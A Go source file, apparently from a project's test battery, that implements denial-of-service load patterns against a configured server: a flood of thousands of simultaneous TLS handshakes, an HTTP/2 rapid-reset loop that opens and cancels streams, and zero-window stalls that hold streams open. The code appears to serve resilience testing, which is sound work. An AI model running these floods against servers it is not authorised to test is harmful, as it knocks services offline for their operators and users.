package namespaces

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"strconv"
	"sync"
	"time"

	"github.com/foliot/foliot/test/battery/harness/timing"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// dial opens a connection to the server and does the TLS handshake.
func (a *attacker) dial(ctx context.Context, protocols ...string) (*tls.Conn, error) {
	dialer := &net.Dialer{LocalAddr: a.from, Timeout: 10 * time.Second}
	conn, err := dialer.DialContext(ctx, "tcp", a.order.Server)
	if err != nil {
		return nil, err
	}
	_ = conn.(*net.TCPConn).SetLinger(0) // a closed connection leaves no port in TIME_WAIT: there are not enough
	cfg := a.tls.Clone()
	cfg.NextProtos = protocols
	secure := tls.Client(conn, cfg)
	if err := secure.HandshakeContext(ctx); err != nil {
		conn.Close()
		return nil, err
	}
	return secure, nil
}

// handshakes opens many connections at once with TLS handshakes, holds them for
// a moment, closes them and begins again.
func handshakes(ctx context.Context, a *attacker) {
	const atOnce, held = 4900, 500 * time.Millisecond
	for ctx.Err() == nil {
		var round sync.WaitGroup
		shaken := make(chan *tls.Conn, atOnce)
		for range atOnce {
			round.Go(func() {
				conn, err := a.dial(ctx)
				switch {
				case err == nil:
					a.note(http.StatusOK, 0)
					shaken <- conn
				case ctx.Err() == nil:
					a.note(0, 0)
				}
			})
		}
		round.Wait()
		timing.Pause(ctx, held)
		close(shaken)
		for conn := range shaken {
			conn.NetConn().Close()
		}
	}
}

// http2Conn is one HTTP/2 connection, driven frame by frame. One goroutine may
// read, and one may write.
type http2Conn struct {
	net.Conn
	authority string
	token     string

	framer  *http2.Framer
	out     *bufio.Writer
	block   bytes.Buffer
	headers *hpack.Encoder
	next    uint32 // stream to open
}

// dialHTTP2 opens a connection and sends the preface.
func (a *attacker) dialHTTP2(ctx context.Context, settings ...http2.Setting) (*http2Conn, error) {
	conn, err := a.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	c := &http2Conn{Conn: conn, authority: a.order.Server, token: a.order.Token, out: bufio.NewWriter(conn), next: 1}
	c.framer = http2.NewFramer(c.out, conn)
	c.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c.headers = hpack.NewEncoder(&c.block)
	_, err = io.WriteString(c.out, http2.ClientPreface)
	if err = errors.Join(err, c.framer.WriteSettings(settings...), c.out.Flush()); err != nil {
		conn.Close()
		return nil, err
	}
	return c, nil
}

// open opens a stream with a GET; flush sends it.
func (c *http2Conn) open(path string) (stream uint32, err error) {
	stream, c.next = c.next, c.next+2 // a client's streams are odd
	c.block.Reset()
	for _, f := range [][2]string{{":method", http.MethodGet}, {":scheme", "https"}, {":authority", c.authority}, {":path", path}} {
		_ = c.headers.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // into memory
	}
	if c.token != "" {
		_ = c.headers.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + c.token})
	}
	return stream, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.block.Bytes(), EndHeaders: true, EndStream: true})
}

// resets opens streams and resets each at once.
func resets(ctx context.Context, a *attacker) {
	hammer(ctx, 64, func(int, int) bool {
		c, err := a.dialHTTP2(ctx)
		if err != nil {
			return false
		}
		defer context.AfterFunc(ctx, func() { c.Close() })()
		defer c.Close()
		go func() { _, _ = io.Copy(io.Discard, c) }() // until the connection is closed
		for {
			for range 50 {
				stream, err := c.open("/v1/tasks")
				if err == nil {
					err = c.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
				}
				if err != nil {
					return false
				}
			}
			if c.out.Flush() != nil {
				return false
			}
			a.mu.Lock()
			a.counts.Requests += 50
			a.mu.Unlock()
		}
	})
}

// stall keeps streams open, and never takes their replies: the window is 0.
func (a *attacker) stall(ctx context.Context, conns, streams int) {
	hammer(ctx, conns, func(int, int) bool {
		c, err := a.dialHTTP2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			if ctx.Err() == nil {
				a.note(0, 0)
			}
			return false
		}
		a.hold(ctx, c, streams)
		return false
	})
}

// hold keeps streams open on one connection until ctx or the connection ends.
func (a *attacker) hold(ctx context.Context, c *http2Conn, streams int) {
	ctx, stop := context.WithCancel(ctx)
	closing := context.AfterFunc(ctx, func() { c.Close() })
	defer closing()
	ended := make(chan uint32, streams) // streams to reset, so that others can be opened
	var reading sync.WaitGroup
	reading.Go(func() {
		defer stop()
		a.readReplies(ctx, c, ended)
	})
	defer reading.Wait()
	defer stop()
	for open := 0; ; {
		var err error
		for ; open < streams && err == nil; open++ {
			_, err = c.open(listWithBodies)
		}
		if err != nil || c.out.Flush() != nil {
			return
		}
		select {
		case stream := <-ended:
			open--
			if c.framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
				return
			}
			timing.Pause(ctx, time.Millisecond) // a refused stream costs little: do not loop without a pause
		case <-ctx.Done():
			return
		}
	}
}

// readReplies counts the replies, and passes on the streams that were refused or
// ended. It leaves the window as it is.
func (a *attacker) readReplies(ctx context.Context, c *http2Conn, ended chan<- uint32) {
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		done := false
		switch f := frame.(type) {
		case *http2.MetaHeadersFrame:
			status, _ := strconv.Atoi(f.PseudoValue("status"))
			a.note(status, 0)
			done = status != http.StatusOK || f.StreamEnded()
		case *http2.RSTStreamFrame:
			a.note(0, 0)
			done = true
		case *http2.GoAwayFrame:
			return
		}
		if !done {
			continue
		}
		select {
		case ended <- frame.Header().StreamID:
		case <-ctx.Done():
			return
		}
	}
}
